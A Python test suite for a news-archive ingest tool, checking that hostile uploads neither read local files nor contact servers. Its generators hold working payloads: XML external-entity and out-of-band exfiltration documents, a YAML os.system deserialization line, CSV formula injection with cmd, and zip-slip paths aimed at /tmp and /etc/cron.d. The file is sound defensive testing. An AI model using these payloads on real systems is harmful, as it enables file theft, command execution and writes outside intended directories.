"""Documents that mean harm reach out to nothing, write nowhere, and cost only themselves."""

import ctypes
import io
import os
import struct
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from urllib.parse import quote

import pytest
from flask.testing import FlaskClient

from archive.errors import MorgueError
from archive.ingest import feeds, opml, pages
from archive.ingest.backfill import sitemaps
from archive.ingest.formats import registry
from archive.settings import Settings
from archive.store import FILE, Store
from tests.archive.formats import samples
from tests.archive.formats.conftest import place
from tests.command_line import run_morgue
from tests.conftest import Tally
from tests.torture.reach import Dialled, Secret, watching
from tests.web.conftest import client_of, csrf_in

PROMISE = "hostile documents cost little"
SENTINEL = "Nobody may ever read this sentence of the sentinel."
_OPENED = 0x20


class Watched:
    """A file, and whether anybody opened it, as the kernel tells (inotify); also from C."""

    def __init__(self, path: Path) -> None:
        self.path = path
        path.write_text(SENTINEL)
        libc = ctypes.CDLL(None, use_errno=True)
        self._notices = libc.inotify_init1(os.O_NONBLOCK)
        if libc.inotify_add_watch(self._notices, os.fsencode(path), _OPENED) < 0:
            pytest.skip("this system does not tell who opens a file")

    @property
    def opened(self) -> int:
        """How often it was opened since last asked."""
        try:
            return len(os.read(self._notices, 65536)) // struct.calcsize("iIII")
        except BlockingIOError:
            return 0

    def close(self) -> None:
        """Watch no more."""
        os.close(self._notices)


@pytest.fixture
def sentinel(tmp_path: Path) -> Iterator[Watched]:
    watched = Watched(tmp_path / "sentinel.txt")
    assert watched.path.read_text() == SENTINEL
    assert watched.opened == 1, "else it would prove nothing"
    yield watched
    watched.close()


@pytest.fixture
def secret() -> Iterator[Secret]:
    secret = Secret()
    yield secret
    secret.close()


@pytest.fixture
def dialled(monkeypatch: pytest.MonkeyPatch) -> Iterator[Dialled]:
    with watching(monkeypatch) as dialled:
        yield dialled


Reader = Callable[[bytes], object]


def as_file(name: str) -> Reader:
    return lambda data: list(registry.read(place(data, name)))


READERS: dict[str, tuple[str, str, Reader]] = {
    "rss": (
        "rss version='2.0'",
        "<channel><title>x</title><item><title>{0}</title><description>{0}</description>"
        "<link>https://gannet.example/1</link></item></channel>",
        lambda data: feeds.read(data, "https://gannet.example/feed"),
    ),
    "feed": (
        "feed xmlns='http://www.w3.org/2005/Atom'",
        "<title>x</title><entry><id>1</id><title>{0}</title><content>{0}</content></entry>",
        lambda data: feeds.read(data, "https://gannet.example/feed"),
    ),
    "opml": (
        "opml version='2.0'",
        "<body><outline text='{0}' xmlUrl='https://gannet.example/f'/>{0}</body>",
        lambda data: opml.read(data, "list.opml"),
    ),
    "urlset": (
        "urlset",
        "<url><loc>https://gannet.example/{0}</loc></url>",
        lambda data: sitemaps.read(data, "https://gannet.example/map.xml"),
    ),
    "nitf": (
        "nitf",
        "<head><title>x</title></head><body><body.head><hedline><hl1>{0}</hl1></hedline>"
        "</body.head><body.content><p>{0}</p></body.content></body>",
        as_file("a.xml"),
    ),
    "newsItem": (
        "newsItem xmlns='http://iptc.org/std/nar/2006-10-01/' guid='1'",
        "<contentMeta><headline>{0}</headline></contentMeta><contentSet><inlineData>{0}"
        "</inlineData></contentSet>",
        as_file("a.xml"),
    ),
    "html": (
        "html xmlns='http://www.w3.org/1999/xhtml'",
        "<head><title>{0}</title></head><body><p>{0}</p></body>",
        lambda data: pages.read(data, "a.html", "https://gannet.example/a"),
    ),
    "html-file": (
        "html xmlns='http://www.w3.org/1999/xhtml'",
        "<head><title>{0}</title></head><body><p>{0}</p></body>",
        as_file("a.xhtml"),
    ),
}


def reaching(tag: str, inside: str, file: str, server: str) -> Iterator[str]:
    """XML documents that ask a reader for what lies elsewhere."""
    name = tag.split(" ")[0].split("-")[0]
    body = f"<{tag}>{inside.format('&e;')}</{name}>"
    for where in (file, server):
        yield f"<!DOCTYPE {name} [<!ENTITY e SYSTEM '{where}'>]>{body}"
        yield f"<!DOCTYPE {name} [<!ENTITY e PUBLIC 'a' '{where}'>]>{body}"
        yield f"<?xml version='1.0' standalone='no'?><!DOCTYPE {name} SYSTEM '{where}'>{body}"
        yield f"<!DOCTYPE {name} PUBLIC '-//W3C//DTD XHTML 1.0//EN' '{where}'>{body}"
        yield f"<!DOCTYPE {name} [<!ENTITY % p SYSTEM '{where}'> %p;]>{body}"
        yield (
            f"<!DOCTYPE {name} [<!ENTITY % f SYSTEM '{file}'>"
            f"<!ENTITY % d '<!ENTITY e SYSTEM \"{server}?%f;\">'> %d;]>{body}"
        )
        yield (
            f"<!DOCTYPE {name} [<!NOTATION n SYSTEM '{where}'>"
            f"<!ENTITY e SYSTEM '{where}' NDATA n>]>{body}"
        )
        plain = inside.format("x")
        yield (
            f"<{tag} xmlns:xi='http://www.w3.org/2001/XInclude'>{plain}"
            f"<xi:include href='{where}' parse='text'/></{name}>"
        )
        yield f"<?xml-stylesheet type='text/xsl' href='{where}'?><{tag}>{plain}</{name}>"
        yield f"<?xml-model href='{where}'?><{tag}>{plain}</{name}>"
        yield (
            f"<{tag} xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' "
            f"xsi:schemaLocation='urn:x {where}' xml:base='{where}'>{plain}</{name}>"
        )
        links = (
            f"<img src='{where}'/><iframe src='{where}'></iframe><link rel='stylesheet' "
            f"href='{where}'/><script src='{where}'></script><base href='{where}'/>"
        )
        yield f"<{tag}>{inside.format(links)}</{name}>"
        escaped = links.replace("<", "&lt;").replace("'", "&quot;")
        yield f"<{tag}>{inside.format(escaped)}</{name}>"


@pytest.mark.parametrize("kind", READERS)
def test_no_xml_reads_a_file_or_asks_a_server(
    kind: str, sentinel: Watched, secret: Secret, dialled: Dialled, tally: Tally
) -> None:
    tag, inside, read = READERS[kind]
    server = f"http://127.0.0.1:{secret.port}/x.dtd"
    documents = list(reaching(tag, inside, sentinel.path.as_uri(), server))
    documents += reaching(tag, inside, quote(str(sentinel.path)), server)
    for document in documents:
        for data in (document.encode(), document.encode("utf-16")):
            said = ""
            with suppress(MorgueError):
                said = repr(read(data))
            assert SENTINEL not in said, document
            assert sentinel.opened == 0, document
    assert (dialled.places, secret.visitors) == ([], 0)
    tally(f"{PROMISE}, reaching out", documents=2 * len(documents), files_read=0, connections=0)


def other_formats(file: str, server: str) -> Iterator[tuple[str, bytes]]:
    """Files of other formats that name what lies elsewhere."""
    yield (
        "a.md",
        f"# x\n\n![x]({file}) ![x]({server}) <img src='{server}'>\n\n[x]: {file}".encode(),
    )
    yield "b.md", f"---\ntitle: !!python/object/apply:os.system ['cat {file}']\n---\nx".encode()
    yield "a.html", f"<title>x</title><img src='{server}'><object data='{file}'>text".encode()
    yield "a.csv", f'title,text\n"=HYPERLINK(""{server}"")","=cmd|\' /C x\'!A0"'.encode()
    yield (
        "a.eml",
        b"Subject: x\nMIME-Version: 1.0\nContent-Type: message/external-body; "
        b'access-type=local-file; name="' + file.encode() + b'"\n\nContent-Type: text/plain\n\n',
    )
    yield "b.eml", f"Subject: x\nContent-Type: text/html\n\n<img src='{server}'>x".encode()
    yield "a.json", f'{{"title": "x", "$ref": "{server}", "url": "{file}", "text": "x"}}'.encode()
    record = samples.warc_record().replace(samples.ADDRESS.encode(), server.encode())
    yield "a.warc", record
    yield "b.warc", samples.warc_record().replace(samples.ADDRESS.encode(), file.encode())
    yield "a.pdf", samples.pdf_article().replace(b"/Type /Page", b"/Type /Page /AA << >>")
    yield "a.mhtml", samples.mhtml().replace(samples.ADDRESS.encode(), file.encode())


def test_no_file_of_any_other_format_does(
    sentinel: Watched, secret: Secret, dialled: Dialled
) -> None:
    server = f"http://127.0.0.1:{secret.port}/x"
    for name, data in other_formats(sentinel.path.as_uri(), server):
        said = ""
        with suppress(MorgueError):
            said = repr(as_file(name)(data))
        assert SENTINEL not in said, name
        assert sentinel.opened == 0, name
    assert (dialled.places, secret.visitors) == ([], 0)


def zip_of(*members: tuple[str, bytes, int]) -> bytes:
    """A zip of (name, content, mode), whatever the names are."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        for name, content, mode in members:
            info = zipfile.ZipInfo("x")
            info.filename = name
            info.external_attr = mode << 16
            archive.writestr(info, content)
    return data.getvalue()


LEADING_OUT = (
    "../slipped.txt", "../../../../tmp/slipped.txt", "/tmp/slipped.txt", "a/../../slipped.txt",
    "..\\slipped.txt", "C:\\slipped.txt", "\\\\host\\slipped.txt", "./../slipped.txt",
    "a/./../../slipped.txt", "/../slipped.txt", "//slipped.txt",
)  # fmt: skip


def slips(sentinel: str) -> bytes:
    """A zip of members that lead out of it, a link, and one that is well."""
    regular, link = 0o100644, 0o120777
    return zip_of(
        ("first.txt", b"A good file before the bad ones.", regular),
        *((name, b"Slipped out of its zip.", regular) for name in LEADING_OUT),
        ("link.txt", sentinel.encode(), link),
        ("a" * 5000 + ".txt", b"A name that no disk can bear, read all the same.", regular),
        ("last.txt", b"A good file after the bad ones.", regular),
    )


def test_nothing_slips_out_of_a_zip_and_the_rest_of_it_is_kept(
    sentinel: Watched, tmp_path: Path
) -> None:
    clippings = tmp_path / "clippings"
    clippings.mkdir()
    (clippings / "slips.zip").write_bytes(slips(str(sentinel.path)))
    site = tmp_path / "site"
    before = set(Path("/tmp").glob("slipped*"))
    assert run_morgue("add", str(clippings), site=site).returncode == 0
    done = run_morgue("update", site=site)
    assert done.returncode == 3
    assert done.stderr.count("has a name that leads out of the zip") == len(LEADING_OUT)
    for name in LEADING_OUT:
        assert f"slips.zip!{name}: has a name that leads out" in done.stderr, name
    with Store(site / FILE) as store:
        texts = " ".join(c.article.text for c in store.changes_since(0) if c.article)
    assert "before the bad ones" in texts
    assert "after the bad ones" in texts
    assert "Slipped" not in texts
    assert SENTINEL not in texts
    assert sentinel.opened == 0
    assert not list(tmp_path.rglob("slipped*"))
    assert set(Path("/tmp").glob("slipped*")) == before


def polyglots() -> Iterator[tuple[str, bytes]]:
    """Files that are two things at once, or another than they say."""
    page, zipped = samples.PAGE, samples.zipped({"inside.txt": b"Inside a polyglot."})
    pdf, gif = samples.pdf_article(), b"GIF89a\x01\0\x01\0\0\0\0;"
    yield "gif-and-page.html", gif + page
    yield "page-and-zip.html", page + zipped
    yield "zip-and-page.zip", page + zipped
    yield "pdf-and-zip.pdf", pdf + zipped
    yield "zip-named.txt", zipped
    yield "pdf-named.html", pdf
    yield "page-named.json", page
    yield "rss-named.html", b"<rss><channel><title>x</title></channel></rss>"
    yield "mail-and-page.eml", b"Subject: x\n\n" + page
    yield "json-and-page.json", b'[{"title": "x", "text": "y"}]' + page
    yield "warc-and-zip.warc", samples.warc_record() + zipped
    yield "phar.html", b"<?php __HALT_COMPILER(); ?>" + page + bytes(1000)
    yield "elf.txt", b"\x7fELF" + bytes(2000)
    yield "bom-of-another.txt", b"\xff\xfe" + page
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../slipped.txt"))
    yield "tar.txt", tar.getvalue()


def upload(client: FlaskClient, files: list[tuple[str, bytes]]) -> tuple[int, str]:
    token = csrf_in(client.get("/sources/upload").text)
    parts = [(io.BytesIO(data), name) for name, data in files]
    with client.post("/sources/upload", data={"csrf": token, "files": parts}) as answer:
        return answer.status_code, answer.text


def test_an_upload_of_documents_that_mean_harm_is_told_of_file_by_file(
    sentinel: Watched,
    secret: Secret,
    dialled: Dialled,
    own_sample_site: Path,
    tally: Tally,
) -> None:
    good = ("good.txt", b"A good file\n\nIt lies beside those that mean harm.\n")
    server = f"http://127.0.0.1:{secret.port}/x"
    tag, inside, _ = READERS["nitf"]
    bad = [
        ("slips.zip", slips(str(sentinel.path))),
        *polyglots(),
        *other_formats(sentinel.path.as_uri(), server),
        *(
            (f"{number}.xml", document.encode())
            for number, document in enumerate(
                reaching(tag, inside, sentinel.path.as_uri(), server)
            )
        ),
        ("../../../etc/cron.d/slipped.txt", b"A name that leads out."),
        ("deep.json", b"[" * 100_000),
        ("deep.html", b"<p>" + b"<div>" * 100_000),
        ("deep.xml", b"<nitf>" + b"<p>" * 100_000),
        ("lengths.warc", samples.warc_record().replace(b"Length: ", b"Length: 999999999")),
    ]
    with client_of(own_sample_site, Settings()) as client:
        status, page = upload(client, [*bad, good])
    assert status in (200, 207, 422)
    assert "A good file" in page
    assert "Traceback" not in page
    for name, _ in bad:
        assert name.rsplit("/")[-1] in page, name
    assert SENTINEL not in page
    assert (sentinel.opened, dialled.places, secret.visitors) == (0, [], 0)
    inside_site = set(own_sample_site.rglob("*slipped*"))
    assert all("uploads" in path.parts for path in inside_site)
    tally(f"{PROMISE}, uploads", files=len(bad))
